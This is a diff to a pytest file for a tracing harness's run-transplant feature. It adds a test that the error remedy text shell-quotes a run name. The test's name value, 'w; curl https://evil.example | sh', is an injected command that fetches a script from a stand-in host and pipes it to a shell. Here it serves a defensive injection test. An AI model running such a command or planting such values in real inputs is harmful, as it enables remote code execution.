@@ -1,5 +1,6 @@
 """What is taken from one run and put into another."""
 
+import shlex
 from pathlib import Path
 
 import pytest
@@ -18,7 +19,7 @@ from harness.lab.transplant.patches import (
 )
 from harness.trace.chain import PHASES, RecordedValue
 from harness.trace.reader import Trace, read_trace
-from tests.support.traces import SEEDED, flip_bit, recorded_value, steps_of, write
+from tests.support.traces import SEEDED, flip_bit, recorded_value, steps_of, trace_of_values, write
 
 
 def traces(tmp_path: Path, *flipped: tuple[int, str, str]) -> tuple[Trace, Trace]:
@@ -140,3 +141,11 @@ def test_what_the_runs_do_not_record_is_refused(tmp_path: Path, text: str, remed
 
 def test_every_alias_is_a_phase() -> None:
     assert set(ALIASES.values()) <= set(PHASES)
+
+
+def test_a_name_of_another_run_is_one_word_of_the_remedy(tmp_path: Path) -> None:
+    name = "w; curl https://evil.example | sh"
+    trace = trace_of_values(tmp_path, [[(recorded_value("loss", name, 1), b"")]], keeps=False)
+    with pytest.raises(UsageError, match="records no") as refused:
+        check_known(parse_patch(f"loss/{name}s"), trace, 0)
+    assert shlex.split(refused.value.remedy) == ["--take", f"loss/{name}"]
